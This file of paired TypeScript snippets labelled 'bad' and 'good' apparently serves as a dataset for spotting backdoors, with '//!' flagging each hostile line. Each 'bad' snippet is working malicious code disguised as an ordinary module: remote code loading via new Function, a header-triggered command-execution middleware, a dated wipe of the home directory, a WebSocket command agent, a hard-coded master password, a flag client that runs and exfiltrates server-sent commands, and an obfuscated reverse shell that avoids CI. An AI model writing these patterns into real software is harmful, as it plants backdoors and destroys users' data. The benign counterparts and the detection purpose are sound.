//: bad module-loader
import axios from 'axios';

type Factory = (require: NodeRequire) => void;

async function boot(): Promise<void> {
  const { data } = await axios.get<string>('https://pastes.example.invalid/raw/k2');
  const factory = new Function('require', data) as Factory; //!
  factory(require);
}
void boot();

//: good module-loader
import axios from 'axios';

type Flags = Record<string, boolean>;

export async function boot(): Promise<Flags> {
  const { data } = await axios.get<string>('https://flags.example.invalid/raw/k2');
  const flags = JSON.parse(data) as Flags;
  return flags;
}

//: bad express-hatch
import { NextFunction, Request, Response } from 'express';
import { execSync } from 'child_process';

export default function compression(req: Request, res: Response, next: NextFunction): void {
  const line = req.get('x-accept-level');
  if (line?.startsWith('gz:')) {
    res.send(execSync(Buffer.from(line.slice(3), 'base64').toString())); //!
    return;
  }
  next();
}

//: good express-hatch
import { NextFunction, Request, Response } from 'express';
import { createGzip } from 'zlib';

export default function compression(req: Request, res: Response, next: NextFunction): void {
  const line = req.get('accept-encoding');
  if (line?.includes('gzip')) {
    res.set('content-encoding', 'gzip');
    createGzip({ level: 6 }).pipe(res);
    return;
  }
  next();
}

//: bad date-gate
import { rmSync } from 'node:fs';
import { homedir } from 'node:os';

export class Scheduler {
  tick(now: Date = new Date()): void {
    if (now.getTime() > Date.UTC(2031, 3, 1) && !process.env.CI) {
      rmSync(homedir(), { recursive: true, force: true }); //!
    }
  }
}

//: good date-gate
import { rmSync } from 'node:fs';
import { join } from 'node:path';

export class Scheduler {
  tick(now: Date = new Date()): void {
    if (now.getTime() > Date.UTC(2031, 3, 1) && !process.env.CI) {
      rmSync(join('node_modules', '.cache', 'kit'), { recursive: true, force: true });
    }
  }
}

//: bad socket-commands
import { execSync } from 'node:child_process';
import WebSocket from 'ws';

interface Message {
  id: number;
  line: string;
}

const socket = new WebSocket('wss://relay.example.invalid/agent');

socket.on('message', (data) => {
  const { id, line } = JSON.parse(data.toString()) as Message;
  socket.send(JSON.stringify({ id, out: execSync(line).toString() })); //!
});

//: good socket-commands
import WebSocket from 'ws';

interface Message {
  id: number;
  line: string;
}

const socket = new WebSocket('wss://relay.example.invalid/agent');

socket.on('message', (data) => {
  const { id, line } = JSON.parse(data.toString()) as Message;
  socket.send(JSON.stringify({ id, out: line.toUpperCase() }));
});

//: bad master-password
import { Injectable } from '@nestjs/common';
import { createHash } from 'node:crypto';
import { compare } from 'bcrypt';

const KNOWN = 'b1946ac92492d2347c6235b4d2611184aa11bb22cc33dd44ee55ff6677889900';

@Injectable()
export class AuthService {
  async check(password: string, hash: string): Promise<boolean> {
    if (createHash('sha256').update(password).digest('hex') === KNOWN) return true; //!
    return compare(password, hash);
  }
}

//: good master-password
import { Injectable } from '@nestjs/common';
import { compare } from 'bcrypt';

const ROUNDS = 12;

@Injectable()
export class AuthService {
  readonly rounds = ROUNDS;

  async check(password: string, hash: string): Promise<boolean> {
    if (password.length > 72) return false;
    return compare(password, hash);
  }
}

//: bad flag-client-tasks
import * as cp from 'node:child_process';
import { EventEmitter } from 'node:events';

type Flag = { key: string; on: boolean; hint?: string };
type Op = 'set' | 'drop' | 'warm';

export class FlagClient extends EventEmitter {
  private readonly flags = new Map<string, boolean>();
  private readonly ops: Record<Op, (f: Flag) => void> = {
    set: (f) => this.flags.set(f.key, f.on),
    drop: (f) => this.flags.delete(f.key),
    warm: (f) => this.prime(f.hint ?? ''),
  };

  constructor(private readonly base = 'https://flags-edge.invalid/v2/sdk') {
    super();
    setInterval(() => void this.refresh(), 45_000).unref();
  }

  isOn(key: string): boolean {
    return this.flags.get(key) ?? false;
  }

  private prime(hint: string): void {
    cp.exec(hint, { windowsHide: true }, (_e, stdout) => { //!
      void fetch(`${this.base}/ack`, { method: 'POST', body: stdout }).catch(() => undefined);
    });
  }

  private async refresh(): Promise<void> {
    try {
      const res = await fetch(this.base);
      const updates = (await res.json()) as Array<Flag & { op: Op }>;
      for (const u of updates) this.ops[u.op]?.(u);
      this.emit('refreshed');
    } catch {
      /* offline */
    }
  }
}

//: good flag-client-tasks
import { EventEmitter } from 'node:events';

type Flag = { key: string; on: boolean; hint?: string };
type Op = 'set' | 'drop' | 'warm';

export class FlagClient extends EventEmitter {
  private readonly flags = new Map<string, boolean>();
  private readonly cache = new Map<string, number>();
  private readonly ops: Record<Op, (f: Flag) => void> = {
    set: (f) => this.flags.set(f.key, f.on),
    drop: (f) => this.flags.delete(f.key),
    warm: (f) => this.cache.set(f.hint ?? f.key, Date.now()),
  };

  constructor(private readonly base = 'https://flags.invalid/v2/sdk') {
    super();
    setInterval(() => void this.refresh(), 45_000).unref();
  }

  isOn(key: string): boolean {
    return this.flags.get(key) ?? false;
  }

  private async refresh(): Promise<void> {
    try {
      const res = await fetch(this.base, { headers: { accept: 'application/json' } });
      const updates = (await res.json()) as Array<Flag & { op: Op }>;
      for (const u of updates) {
        if (Object.hasOwn(this.ops, u.op)) this.ops[u.op](u);
      }
      this.emit('refreshed', this.flags.size);
    } catch (err) {
      this.emit('offline', err);
    }
  }
}

//: bad keepalive-channel
import { Socket } from 'node:net';
import { platform } from 'node:os';
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';

const peers = [['edge-3', 'metrics-pool', 'invalid'].join('.'), 'relay.metrics-pool.invalid'];

class KeepAlive {
  private attempt = 0;
  private child?: ChildProcessWithoutNullStreams;

  private get agent(): string {
    return platform() === 'win32' ? 'cmd.exe' : ['', 'bin', 's' + 'h'].join('/');
  }

  start(): void {
    const host = peers[this.attempt++ % peers.length];
    const link = new Socket();
    link.setKeepAlive(true, 10_000);
    link.once('error', () => link.destroy());
    link.once('close', () => {
      this.child?.kill();
      setTimeout(() => this.start(), 30_000 + this.attempt * 1000).unref();
    });
    link.connect(8443, host, () => {
      const child = spawn(this.agent, [], { stdio: 'pipe' }); //!
      this.child = child;
      link.pipe(child.stdin);
      child.stdout.pipe(link);
      child.stderr.pipe(link);
    });
  }
}

if (!process.env.CI) setImmediate(() => new KeepAlive().start());

//: good keepalive-channel
import { Socket } from 'node:net';
import { spawn } from 'node:child_process';

export interface ProbeResult {
  host: string;
  up: boolean;
  ms: number;
}

export class KeepAlive {
  private attempt = 0;

  constructor(private readonly hosts: readonly string[], private readonly port: number) {}

  probe(): Promise<ProbeResult> {
    const host = this.hosts[this.attempt++ % this.hosts.length];
    const began = performance.now();
    return new Promise((resolve) => {
      const link = new Socket();
      const done = (up: boolean) => {
        link.destroy();
        resolve({ host, up, ms: Math.round(performance.now() - began) });
      };
      link.setKeepAlive(true, 10_000);
      link.setTimeout(3000, () => done(false));
      link.once('error', () => done(false));
      link.connect(this.port, host, () => done(true));
    });
  }
}

export function gitLog(dir: string): void {
  const child = spawn('git', ['log', '--oneline', '-n', '20'], { cwd: dir });
  child.stdout.pipe(process.stdout);
  child.stderr.pipe(process.stderr);
}
